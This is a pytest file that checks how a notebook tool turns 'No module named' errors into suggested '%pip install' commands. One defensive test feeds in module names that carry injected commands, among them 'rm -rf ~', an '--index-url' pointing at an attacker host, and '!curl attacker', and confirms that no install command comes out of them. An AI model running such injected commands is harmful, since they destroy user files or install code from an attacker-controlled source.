"""A missing module is recognised and named with its package; nothing else that an error says becomes a command."""

from __future__ import annotations

import pytest

from jupyter_codeinterp.outputs.missing_modules import find_missing_module
from jupyter_codeinterp.protocol.outputs import ErrorOutput, StreamOutput
from jupyter_codeinterp.protocol.parts import EngineName, Note


def note(
    evalue: str, ename: str = "ModuleNotFoundError", engine: EngineName = "jupyter", *, pypi: bool = True
) -> Note | None:
    return find_missing_module((StreamOutput("stdout", "x"), ErrorOutput(ename, evalue, ())), engine, pypi=pypi)


@pytest.mark.parametrize(
    ("module", "package"),
    [("cv2", "opencv-python"), ("sklearn", "scikit-learn"), ("PIL", "pillow"), ("yaml", "PyYAML"), ("tqdm", "tqdm")],
)
def test_a_package_is_named_by_what_installs_it(module: str, package: str) -> None:
    install = f"%pip install {package}"
    assert note(f"No module named '{module}'") == Note(
        "module_missing",
        f"The module `{module}` is not installed in this kernel; `{install}` installs it.",
        {"module": module, "package": package, "install": install},
    )


def test_a_submodule_comes_with_its_package() -> None:
    found = note("No module named 'sklearn.extra'")
    assert found is not None
    assert (found.details["module"], found.details["install"]) == ("sklearn.extra", "%pip install scikit-learn")


def test_an_old_import_error_counts_too() -> None:
    assert note("No module named docx", "ImportError") is not None
    assert note("cannot import name 'x' from 'y'", "ImportError") is None


@pytest.mark.parametrize("module", ["tkinter", "distutils", "_tkinter", "google", "google.cloud", "_private", "azure"])
def test_what_no_one_package_brings_gets_no_command(module: str) -> None:
    found = note(f"No module named '{module}'")
    assert found is not None
    assert found.details == {"module": module}
    assert "pip" not in found.text


@pytest.mark.parametrize(
    "evalue",
    [
        "No module named 'x; rm -rf ~'",
        "No module named 'x --index-url http://attacker'",
        "No module named 'x'\n!curl attacker",
        "No module named 'caf\u00e9'",
        "No module named ''",
        "No module named 'a'; 'a' is not a package",
        f"No module named '{'x' * 101}'",
        "division by zero",
    ],
)
def test_an_error_that_says_anything_else_becomes_no_command(evalue: str) -> None:
    assert note(evalue) is None


def test_only_the_last_error_counts() -> None:
    missing = ErrorOutput("ModuleNotFoundError", "No module named 'tqdm'", ())
    other = ErrorOutput("ZeroDivisionError", "division by zero", ())
    assert find_missing_module((missing, other), "jupyter") is None
    assert find_missing_module((other, missing), "jupyter") is not None
    assert note("No module named 'tqdm'", "KeyError") is None
    assert find_missing_module((), "jupyter") is None


def test_the_browser_installs_where_that_is_allowed() -> None:
    found = note("No module named 'cowsay'", engine="pyodide", pypi=False)
    assert found is not None
    assert found.details == {"module": "cowsay", "package": "cowsay"}
    assert "pip" not in found.text
    found = note("No module named 'cowsay'", engine="pyodide")
    assert found is not None
    assert found.details["install"] == "%pip install cowsay"
    assert "kernel" not in found.text
